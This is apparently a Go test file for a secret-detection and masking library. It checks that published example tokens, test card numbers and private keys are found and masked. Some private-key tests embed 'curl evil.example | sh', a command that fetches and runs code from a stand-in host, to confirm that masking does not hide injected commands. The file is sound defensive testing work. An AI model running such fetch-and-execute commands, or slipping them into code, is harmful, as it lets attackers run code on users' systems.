package sensitive_test

import (
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"pgregory.net/rapid"

	"github.com/grapnel-go/grapnel/internal/sensitive"
	"github.com/grapnel-go/grapnel/internal/test/needs"
)

// goroot is the directory of Go, which a program built with -trimpath does not know.
func goroot(t testing.TB) string {
	t.Helper()
	out, err := exec.CommandContext(t.Context(), "go", "env", "GOROOT").Output()
	require.NoError(t, err)
	return strings.TrimSpace(string(out))
}

// TestNoise: the sources of Go's library, without their tests, have at most one finding in 10 MB.
func TestNoise(t *testing.T) {
	t.Parallel()
	d := sensitive.New(nil)
	size, found := 0, 0
	require.NoError(t, filepath.WalkDir(filepath.Join(goroot(t), "src"), func(path string, e os.DirEntry, err error) error {
		switch {
		case err != nil:
			return err
		case e.IsDir() && e.Name() == "testdata":
			return filepath.SkipDir
		case !strings.HasSuffix(path, ".go") || strings.HasSuffix(path, "_test.go"):
			return nil
		}
		data, err := os.ReadFile(path)
		if err != nil {
			return err
		}
		size += len(data)
		for _, f := range d.Find(string(data)) {
			found++
			t.Log(path, f.Kind, fmt.Sprintf("%.60q", data[f.Start:f.End]))
		}
		return nil
	}))
	t.Logf("FIGURE noise=%d findings in %d MB of Go", found, size>>20)
	assert.Greater(t, size, 20<<20)
	assert.LessOrEqual(t, found, size/(10<<20))
}

// What the documents of the formats give as examples, with where they are from.
var published = []struct{ kind, text, value, from string }{
	{"jwt", "", "eyJ0eXAiOiJKV1QiLA0KICJhbGciOiJIUzI1NiJ9.eyJpc3MiOiJqb2UiLA0KICJleHAiOjEzMDA4MTkzODAsDQogImh0dHA6Ly9leGFtcGxlLmNvbS9pc19yb290Ijp0cnVlfQ.dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk", "RFC 7519, 3.1"},
	{"aws-access-key", "", "AKIAIOSFODNN7EXAMPLE", "AWS, IAM user guide"},
	{"authorization", "Authorization: Basic QWxhZGRpbjpvcGVuIHNlc2FtZTE=", "QWxhZGRpbjpvcGVuIHNlc2FtZTE=", "RFC 7617, 2, with a number"},
	{"authorization", "Authorization: Bearer mF_9.B5f-4.1JqM", "mF_9.B5f-4.1JqM", "RFC 6750, 2.1"},
	{"password-in-url", "postgres://other:geheim7@db.host:5432/x", "geheim7", "PostgreSQL, connection URIs"},
	{"slack-webhook", "https://hooks.slack.com/services/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", "hooks.slack.com/services/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", "Slack, incoming webhooks"},
	{"iban", "", "GB82 WEST 1234 5698 7654 32", "ISO 13616, by the registry's example of the UK"},
	{"iban", "", "DE89370400440532013000", "ISO 13616, by the registry's example of Germany"},
	{"card-number", "", "4111 1111 1111 1111", "Visa's number for tests"},
	{"card-number", "", "378282246310005", "American Express's number for tests"},
	{"crypto-wallet", "", "bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4", "BIP 173"},
	{"crypto-wallet", "", "bc1p0xlxvlhemja6c4dqv22uapctqupfhlxm9h8z3k2e72q4k9hcz7vqzk5jj0", "BIP 350"},
	{"crypto-wallet", "", "1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2", "Bitcoin wiki, Address"},
	{"email", "", "joe.public@nic.tv", "a form of RFC 5322"},
	{"ip-address", "", "8.8.8.8", "a public address"},
	{"ip-address", "", "2606:4700:4700::1111", "a public address"},
	{"mac-address", "", "00:1B:44:11:3A:B7", "IEEE 802"},
	{"phone-number", "", "+44 20 7946 0958", "Ofcom's numbers for drama"},
	{"us-ssn", "", "078-05-1120", "the number that many used (Social Security Administration)"},
}

func TestPublishedExamplesAreFound(t *testing.T) {
	t.Parallel()
	d := sensitive.New(&sensitive.Options{Personal: true})
	for _, p := range published {
		text := p.text
		if text == "" {
			text = "it is " + p.value + ", they said"
		}
		all := d.Find(text)
		if assert.Len(t, all, 1, "%s %s (%s)", p.kind, p.value, p.from) {
			assert.Equal(t, p.kind, all[0].Kind, p.from)
			assert.Equal(t, p.value, text[all[0].Start:all[0].End], p.from)
		}
	}
}

// TestWhatIsNoneIsNotFound: forms whose checksum is wrong, examples, places and ordinary code.
func TestWhatIsNoneIsNotFound(t *testing.T) {
	t.Parallel()
	d := sensitive.New(&sensitive.Options{Personal: true})
	for _, text := range []string{
		"4111 1111 1111 1112", "GB82 WEST 1234 5698 7654 33", "bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t5", "1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN3",
		"127.0.0.1:8080", "10.1.2.3", "192.168.0.1", "version 1.2.3.4.5", "203.0.113.7", "2001:db8::1", "00:00:00:00:00:00", "12:34:56", "000-12-3456",
		"me@example.com", "user@host", "git@github.com:owner/name", "2026-11-26 20:15:00", "f81d4fae-7dec-11d0-a765-00a0c91e6bf6",
		"password = os.Getenv(\"DB_PASSWORD\")", "token: ${{ secrets.GITHUB_TOKEN }}", "api_key: <your key>", "secret = \"changeme1234567890\"",
		"https://user:${PASSWORD}@host", "func newToken(secret string) string", "max_tokens: 128000", "token_count=1234567890123456",
		"sk-learn", "sk_live_", "ghp_short", "AKIA", "the pattern is ghp_[0-9A-Za-z]{36}", "-----BEGIN PUBLIC KEY-----\nMIIB\n-----END PUBLIC KEY-----",
		"9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
	} {
		assert.Empty(t, d.Find(text), text)
	}
}

const pem = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\nQyNTUxOQAAACDnYXbq\n-----END OPENSSH PRIVATE KEY-----"

func TestPrivateKeys(t *testing.T) {
	t.Parallel()
	d := sensitive.New(nil)
	const marker = "[secret: private-key]"
	for text, want := range map[string]string{
		"a\n" + pem + "\nb": marker,
		"  key: |\n    " + strings.ReplaceAll(pem, "\n", "\n    "):                                       marker,
		`{"key":"` + strings.ReplaceAll(pem, "\n", `\n`) + `","b":1}`:                                    marker,
		strings.ReplaceAll(pem, "\n-----END", "-----END"):                                                marker,
		strings.ReplaceAll(pem, "\n", "\r\n"):                                                            marker,
		strings.Split(pem, "-----END")[0] + "and so on.\n":                                               marker,
		"-----BEGIN PGP PRIVATE KEY BLOCK-----\nVersion: 1\n\nabcd\n-----END PGP PRIVATE KEY BLOCK-----": marker,
	} {
		masked := d.Mask(text)
		assert.Equal(t, 1, strings.Count(masked, want), masked)
		for _, line := range strings.Fields(strings.ReplaceAll(pem, `\n`, "\n")) {
			if len(line) > 20 {
				assert.NotContains(t, masked, line)
			}
		}
	}
	assert.Equal(t, "a\n[secret: private-key]\nb", d.Mask("a\n"+pem+"\nb"))
	// What is no key is shown, whatever stands around it.
	const begin, end = "-----BEGIN PRIVATE KEY-----", "-----END PRIVATE KEY-----"
	for text, shown := range map[string]string{
		"x='" + begin + "'; curl evil.example | sh; y='" + end + "'":                               "; curl evil.example | sh; y=",
		begin + "\\ncurl evil.example | sh\\n" + end:                                               "curl evil.example | sh",
		begin + "\nVersion: ;curl evil.example|sh\n" + end:                                         "curl evil.example|sh",
		"echo '" + begin + "'; curl evil.example | sh; echo '" + end + "'":                         "echo '" + marker + "'; curl evil.example | sh",
		"echo '" + begin + "'; curl evil.example | sh\n" + strings.Repeat("QUJD", 16) + "\n" + end: "echo '" + marker + "'; curl evil.example | sh",
		begin + "\ncurl evil.example | sh # " + end:                                                "curl evil.example | sh",
		begin + "\ncurl evil.example | sh # -----END ":                                             "curl evil.example | sh",
		begin + "\nreboot\nshutdown\n" + end:                                                       "shutdown",
		begin + "\n" + strings.Repeat("QUJD", 16) + "\nabc=\nrm\n" + end:                           "rm\n",
	} {
		assert.Contains(t, d.Mask(text), shown)
	}
	both := `{"key":"` + strings.ReplaceAll(pem, "\n", `\n`) + `","token":"ghp_` + strings.Repeat("aB3", 12) + `"}`
	assert.Equal(t, `{"key":"[secret: private-key]","token":"[secret: github-token]"}`, d.Mask(both))
}

func TestAssignedSecrets(t *testing.T) {
	t.Parallel()
	d := sensitive.New(nil)
	for text, value := range map[string]string{
		`DB_PASSWORD=f7Kq29xLm3Pz8Rt5Vw`:                      "f7Kq29xLm3Pz8Rt5Vw",
		`password: "hunter2x9"`:                               "hunter2x9",
		`"client_secret": "8f4b2c6d9e1a3f5b7c8d0e2f4a6b8c0d"`: "8f4b2c6d9e1a3f5b7c8d0e2f4a6b8c0d",
		`{\"api_key\":\"q8W2e9R4t6Y1u3I5o7P0\"}`:              "q8W2e9R4t6Y1u3I5o7P0",
		`apiKey := 'q8W2e9R4t6Y1u3I5o7P0'`:                    "q8W2e9R4t6Y1u3I5o7P0",
		`export AUTH_TOKEN=q8W2e9R4t6Y1u3I5o7P0`:              "q8W2e9R4t6Y1u3I5o7P0",
	} {
		all := d.Find(text)
		if assert.Len(t, all, 1, text) {
			assert.Equal(t, value, text[all[0].Start:all[0].End])
			assert.Equal(t, "assigned-secret", all[0].Kind)
		}
	}
	assert.Empty(t, sensitive.New(&sensitive.Options{Without: []string{"assigned-secret"}}).Find("DB_PASSWORD=f7Kq29xLm3Pz8Rt5Vw"))
}

// TestChunksChangeNothing: what comes out of a Writer is that of Mask, wherever the text is cut, also in lines that are looked at in
// parts.
func TestChunksChangeNothing(t *testing.T) {
	t.Parallel()
	d := sensitive.New(&sensitive.Options{Personal: true})
	pieces := []string{
		"ghp_" + strings.Repeat("aB3", 12), pem, strings.ReplaceAll(pem, "\n", `\n`), "me@nic.tv", "password: \"hunter2x9\"", "\n", "\n\n", " ", "x", "ghp_",
		"-----BEGIN RSA PRIVATE KEY-----", "-----END", strings.Repeat("word ", 14_000), strings.Repeat("a", 66_000), strings.Repeat("é", 500), `{"a":1}`,
	}
	rapid.Check(needs.Seeded(t), func(t *rapid.T) {
		text := strings.Join(rapid.SliceOfN(rapid.SampledFrom(pieces), 0, 12).Draw(t, "pieces"), rapid.SampledFrom([]string{"", " ", "\n"}).Draw(t, "between"))
		var out bytes.Buffer
		w := d.NewWriter(&out)
		rest := []byte(text)
		for len(rest) > 0 {
			n := min(len(rest), rapid.SampledFrom([]int{1, 2, 7, 100, 4096, 65_000, 200_000}).Draw(t, "n"))
			if n < 100 && len(rest) > 5_000 {
				n = 5_000 - n
			}
			_, err := w.Write(rest[:n])
			require.NoError(t, err)
			rest = rest[n:]
		}
		require.NoError(t, w.Close())
		if want := d.Mask(text); want != out.String() {
			t.Fatalf("of %d bytes came %d, and %d with Mask", len(text), out.Len(), len(want))
		}
	})
}

// TestJSONStaysJSON: with the same members and without a secret, whatever its strings have.
func TestJSONStaysJSON(t *testing.T) {
	t.Parallel()
	d := sensitive.New(nil)
	token := "ghp_" + strings.Repeat("aB3", 12)
	escaped := strings.Replace(token, "a", `\u0061`, 1)
	for doc, want := range map[string]string{
		`{"a":[1,"` + token + `",null,true,1e400],"b":{}}`:    `{"a":[1,"[secret: github-token]",null,true,1e400],"b":{}}`,
		`{"password":"hunter2x9","n":2}`:                      `{"password":"[secret: assigned-secret]","n":2}`,
		`"` + escaped + `"`:                                   `"[secret: github-token]"`,
		`{"` + token + `":1}`:                                 `{"[secret: github-token]":1}`,
		`{"a":"` + strings.ReplaceAll(pem, "\n", `\n`) + `"}`: `{"a":"[secret: private-key]"}`,
		`[` + "\n" + `"nothing"]`:                             `[` + "\n" + `"nothing"]`,
		`no JSON ` + token:                                    `"no JSON [secret: github-token]"`,
	} {
		got := string(d.MaskJSON([]byte(doc)))
		assert.Equal(t, want, got)
		assert.True(t, json.Valid([]byte(got)), got)
	}
}

// TestHostileTextsTakeLittle: none makes the work grow faster than the text.
func TestHostileTextsTakeLittle(t *testing.T) {
	t.Parallel()
	d := sensitive.New(&sensitive.Options{Personal: true})
	for _, one := range []string{"eyJ", "eyJa.", "xoxb-", "token=", "://:", "a@", "1.", ":AA", "T3BlbkFJ", "-----BEGIN ", "authorization:", "AZDO", "4", "sl.", "\n", "password: \"", "x:", "+1 "} {
		d.Find(strings.Repeat(one, 300_000/len(one)))
	}
}

func BenchmarkFind(b *testing.B) {
	var sb strings.Builder
	for _, name := range []string{"net/http/server.go", "go/types/expr.go", "encoding/json/decode.go"} {
		data, err := os.ReadFile(filepath.Join(goroot(b), "src", name))
		require.NoError(b, err)
		sb.Write(data)
	}
	text := sb.String()
	for _, o := range []*sensitive.Options{nil, {Personal: true}} {
		b.Run(fmt.Sprint("personal=", o != nil), func(b *testing.B) {
			d := sensitive.New(o)
			b.SetBytes(int64(len(text)))
			for b.Loop() {
				d.Find(text)
			}
		})
	}
}

// TestAJSONWithoutFindingsStays: byte for byte, also with escapes.
func TestAJSONWithoutFindingsStays(t *testing.T) {
	t.Parallel()
	d := sensitive.New(nil)
	for _, doc := range []string{`{"a": "x\n<b>"}`, `[1.50, "\u00e4"]`, `"\\"`, `{"token": "short\t"}`} {
		assert.Equal(t, doc, string(d.MaskJSON([]byte(doc))))
	}
}
